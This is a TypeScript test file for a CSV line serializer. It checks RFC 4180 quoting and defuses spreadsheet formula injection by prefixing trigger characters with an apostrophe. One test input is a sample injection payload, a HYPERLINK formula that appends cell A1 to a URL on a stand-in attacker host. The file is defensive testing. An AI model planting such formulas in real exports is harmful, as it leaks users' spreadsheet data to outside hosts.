import test from 'ava';
import * as fc from 'fast-check';
import { csvLine } from '#src/api/csv.ts';
import { readCsv } from '#test/helpers/read-csv.ts';

test('cells are separated by commas, and a line ends as RFC 4180 wants it', (t) => {
  t.is(csvLine(['a', 1.5, true, null, '']), 'a,1.5,true,,\r\n');
});

test('what would break a line or a cell is quoted', (t) => {
  t.is(csvLine(['a,b', 'say "no"', 'two\nlines']), '"a,b","say ""no""","two\nlines"\r\n');
});

const formula = test.macro<[string]>({
  exec(t, text) {
    t.deepEqual(readCsv(csvLine(['x', text])), [['x', `'${text}`]]);
  },
  title: (_, text) => `${JSON.stringify(text)} is no formula any more`,
});

test(formula, '=HYPERLINK("http://evil.example/?"&A1,"click")');
test(formula, '+82');
test(formula, '-1+1');
test(formula, '@SUM(A1)');
test(formula, '\t=1');
test(formula, '\r=1');
test(formula, '  =1');
test(formula, '＝1');

test('numbers, also negative ones, stay numbers', (t) => {
  t.is(csvLine([-1, 0]), '-1,0\r\n');
});

test('whatever the cells hold, they are read as they were, and none is a formula', (t) => {
  const text = fc.string({
    unit: fc.constantFrom('a', '가', '"', ',', '\n', '\r', '\t', '=', '+', '@', ' ', "'"),
  });
  fc.assert(
    fc.property(fc.array(text, { minLength: 1 }), (cells) => {
      const [read = [], ...more] = readCsv(csvLine(cells));
      t.is(more.length, 0);
      t.deepEqual(
        read.map((cell, index) => (cell === cells[index] ? cell : cell.replace(/^'/, ''))),
        cells,
      );
      for (const cell of read) t.notRegex(cell, /^\s*[=+@]/);
    }),
  );
});
